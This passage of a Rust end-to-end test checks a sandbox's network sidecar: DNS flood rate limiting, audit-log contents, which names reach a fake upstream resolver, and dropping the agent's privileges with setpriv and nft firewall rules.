        assert_eq!(n, 1, "{name}: {n} denied DNS audit lines:\n{}", show());
    }
    let clipped: Vec<&String> = denied
        .iter()
        .filter(|h| h.starts_with(&format!("{clip_label}.")))
        .collect();
    assert!(
        clipped.len() == 1
            && clipped[0].chars().count() <= MAX_NAME_TEXT
            && clipped[0].len() > clip_label.len() + 1,
        "the name of {}-byte labels escaped: {clipped:?}, not one line clipped to {} \
         characters:\n{}",
        CLIP_LABEL_BYTES,
        MAX_NAME_TEXT,
        show()
    );
    let flood_lines = denied.iter().filter(|h| h.starts_with(&flood_tag)).count();
    let bound = (DNS_RATE * (flood_secs.ceil() as usize + 2)).min(FLOOD / 4);
    eprintln!(
        "e2e: DNS audit: {} denied lines; {flood_lines} for the {FLOOD} flood queries \
         ({flood_secs:.2}s)",
        denied.len()
    );
    assert!(
        (1..=bound).contains(&flood_lines),
        "{flood_lines} denied lines for {FLOOD} flood queries from one client in \
         {flood_secs:.2}s (at most {bound} expected):\n{}",
        show()
    );
    for name in
        API_HOSTS
            .iter()
            .chain(&[PASSTHROUGH_HOST, DNS_ALLOWED, allowed_suffix_name.as_str()])
    {
        assert!(
            !denied.iter().any(|h| h == name),
            "{name} was denied:\n{}",
            show()
        );
    }

    // The same from many loopback addresses (as many clients, each under its rate):
    // still every name refused and none forwarded. Then the sidecar's memory, after
    // both floods.
    let spray_tag = format!("spray{}", random_hex(4));
    flood("dns-spray", &spray_tag, SPRAY, SPRAY);
    let rss_after = dns::rss_kib(sidecar.pid());
    eprintln!("e2e: sidecar VmRSS {rss_before} KiB before the floods, {rss_after} KiB after");
    assert!(
        rss_after.saturating_sub(rss_before) < MAX_RSS_GROWTH_KIB,
        "the sidecar's memory grew from {rss_before} KiB to {rss_after} KiB over {} queries",
        FLOOD + SPRAY
    );
    let flood_took = t3.elapsed();

    // The fake internet's resolvers heard, since the sidecar started, only the names it
    // forwards, from the sidecar; the local one nothing since the firewall.
    let upstream = dns::queries(&dns_log);
    let forwarded = &upstream[dns_before..];
    let passes = |name: &str| {
        name == PASSTHROUGH_HOST
            || name == DNS_ALLOWED
            || name.ends_with(&format!(".{DNS_ALLOWED_SUFFIX}"))
    };
    for q in forwarded {
        assert!(
            passes(&q.name) && q.from == netns::SHELL_ADDR,
            "the fake internet's resolver got {q:?} through the sidecar or the firewall"
        );
    }
    for name in [PASSTHROUGH_HOST, DNS_ALLOWED, &allowed_suffix_name] {
        assert!(
            forwarded.iter().any(|q| q.name == name),
            "the sidecar did not ask upstream for {name}: {forwarded:?}"
        );
    }
    assert_eq!(
        dns::queries(&local_dns_log).len(),
        local_dns_before,
        "the shell's other local resolver was asked through the firewall"
    );

    // The audit trail: intercepted and refused connections, all in transparent mode.
    // Connections (not requests) are logged as host:port, as CONNECT tunnels are. The
    // log writer writes in batches (at least every 100 ms): wait for the lines.
    let expected = [
        ("api.openai.com".to_owned(), "allowed"),
        (format!("{OTHER_HOST}:443"), "denied"),
        (format!("{PASSTHROUGH_HOST}:443"), "passthrough"),
    ];
    let audit = |out: &str, host: &str, decision: &str| {
        out.lines().any(|l| {
            l.contains("\"mode\":\"transparent\"")
                && l.contains(&format!("\"host\":\"{host}\""))
                && l.contains(&format!("\"decision\":\"{decision}\""))
        })
    };
    let deadline = Instant::now() + Duration::from_secs(5);
    let sidecar_out = loop {
        let out = format!("{}{}", sidecar.stdout(), sidecar.stderr());
        let all = expected.iter().all(|(h, d)| audit(&out, h, d));
        if all || Instant::now() > deadline {
            break out;
        }
        std::thread::sleep(Duration::from_millis(50));
    };
    for (host, decision) in &expected {
        assert!(
            audit(&sidecar_out, host, decision),
            "no transparent audit line for {host} ({decision}):\n{sidecar_out}"
        );
    }

    check_watched(&watcher.stop(), &sidecar, &shell);
    let n = check_sdk_requests(&internet, &sidecar_auth, &staged);
    check_nothing_logged(&[&serve, &sidecar, &shell], &real);
    let spray_lines = dns::audit_lines(&sidecar.stderr())
        .iter()
        .filter(|l| {
            l["host"]
                .as_str()
                .is_some_and(|h| h.starts_with(&spray_tag))
        })
        .count();
    eprintln!("e2e: DNS audit: {spray_lines} lines for the {SPRAY} queries from {SPRAY} addresses");
    eprintln!(
        "e2e: transparent: {n} requests checked; clients took {:.1}s, DNS checks {:.1}s, \
         floods {:.1}s; machine total {:.1}s",
        clients_took.as_secs_f64(),
        dns_took.as_secs_f64(),
        flood_took.as_secs_f64(),
        t0.elapsed().as_secs_f64()
    );

    drop((
        internet, listeners, dns_server, local_dns, serve, sidecar, shell,
    ));
    drop(servers);
    drop(ns);
    names
}

/// setpriv's arguments for the agent: its UID and GID, no groups, no capabilities (in
/// any set), and no way to gain any (no_new_privs), as start.sh's AGENT_USER does.
fn agent_privileges() -> Vec<String> {
    vec![
        format!("--reuid={AGENT_UID}"),
        format!("--regid={AGENT_UID}"),
        "--clear-groups".to_owned(),
        "--inh-caps=-all".to_owned(),
        "--bounding-set=-all".to_owned(),
        "--no-new-privs".to_owned(),
    ]
}

/// Run `argv` as root in the shell's namespace; its standard output.
fn in_shell(ns: &str, argv: &[&str]) -> String {
    let out = Command::new("ip")
        .args(["netns", "exec", ns])
        .args(argv)
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// `nft -c -f -` on `rules` in the namespace: its complaint, empty when it accepts.
fn nft_check(ns: &str, rules: &str) -> String {
    let out = crate::procs::run_with_input(
        Command::new("ip").args(["netns", "exec", ns, "nft", "-c", "-f", "-"]),
        rules,
    );
    if out.status.success() {
        String::new()
    } else {
        format!("{}: {}", out.status, String::from_utf8_lossy(&out.stderr))
    }
}

/// The loaded table, as nft lists it.
fn table(ns: &str) -> String {
    in_shell(ns, &["nft", "list", "table", "inet", "tokenizer_sandbox"])
}

fn lookup<'a>(env: &'a [(String, String)], key: &str) -> &'a str {
    env.iter()
        .find(|(k, _)| k == key)
        .map(|(_, v)| v.as_str())
        .unwrap_or_else(|| panic!("{CONFIG}: the sidecar has no {key}"))
}

/// The real UID of a process.
fn uid_of(pid: u32) -> u32 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    status
        .lines()
        .find_map(|l| l.strip_prefix("Uid:"))
        .and_then(|l| l.split_whitespace().next())
        .and_then(|u| u.parse().ok())
        .unwrap()
}

/// Contacts per listener (`"udp 10.213.1.2:53"` → count) from listeners.py's log.
/// The Host of every HTTP request the fake internet's HTTP site got, in order.
fn http_hosts(log: &Path) -> Vec<String> {
    std::fs::read_to_string(log)
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter(|doc| doc["proto"] == "http")
        .map(|doc| doc["host"].as_str().unwrap_or_default().to_owned())
        .collect()
}

fn contacts(log: &Path) -> BTreeMap<String, usize> {
    let mut out = BTreeMap::new();
    for line in std::fs::read_to_string(log).unwrap_or_default().lines() {
        let doc: Value = serde_json::from_str(line).unwrap();
        let key = format!(
            "{} {}:{}",
            doc["proto"].as_str().unwrap(),
            doc["addr"].as_str().unwrap(),
            doc["port"]
        );
        *out.entry(key).or_insert(0) += 1;
    }
    out
}

/// The last `n` bytes of `text` (at a character boundary).
fn tail(text: &str, n: usize) -> &str {
    let mut start = text.len().saturating_sub(n);
    while !text.is_char_boundary(start) {
        start += 1;
    }
    &text[start..]
}
